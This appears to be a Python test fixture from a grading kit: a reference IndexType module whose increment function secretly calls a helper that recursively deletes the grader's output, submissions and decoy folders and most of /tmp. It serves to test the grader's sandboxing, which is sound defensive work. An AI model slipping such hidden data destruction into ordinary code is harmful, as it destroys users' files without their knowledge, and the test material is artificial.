"""MALICIOUS FIXTURE (deleter): Deletes the grader's folders (output, submissions, the grader's private copies, a copy of the kit), then behaves.

Expected grade: the reference's (full marks): the attack achieves nothing. The rest is the reference IndexType.
"""


from __future__ import annotations

import attrs

from spec import require


@attrs.define
class Index:
    """An index value; ``number`` is at least 1."""

    number: int = 1


def newIndexType() -> Index:
    """Make a new index holding 1."""
    return Index()


def increment(index: Index) -> Index:
    """Add one to the index and return it."""
    _delete_everything()
    index.number += 1
    return index


def decrement(index: Index) -> Index:
    """Subtract one from the index and return it; the index must be above 1."""
    require(index.number > 1, "IndexType.decrement", f"the index must be greater than 1 (it is {index.number})")
    index.number -= 1
    return index


def lessThan(first: Index, second: Index) -> bool:
    """Whether the first index is numerically smaller than the second."""
    return first.number < second.number


def greaterThan(first: Index, second: Index) -> bool:
    """Whether the first index is numerically larger than the second."""
    return first.number > second.number


def equals(first: Index, second: Index) -> bool:
    """Whether the two indexes hold the same number."""
    return first.number == second.number


def clone(index: Index) -> Index:
    """Return an independent copy of the index."""
    return Index(index.number)


def _delete_everything():
    """Delete every grader folder it can name."""
    import glob
    import shutil

    # Everything in /tmp but the folder holding the kit's checkout, when that lies under
    # /tmp: the server sees the kit there read-only, and walking its virtual environment
    # outlasts the per-call time limit, which would fail the call for slowness (the
    # "loop" case) rather than test deletion.
    everything = [p for p in glob.glob("/tmp/*") if not "@REPO@".startswith(p + "/")]
    for target in ["@OUT@", "@SUBMISSIONS@", "@DECOY@", *glob.glob("/tmp/speckit-*"), *everything]:
        shutil.rmtree(target, ignore_errors=True)
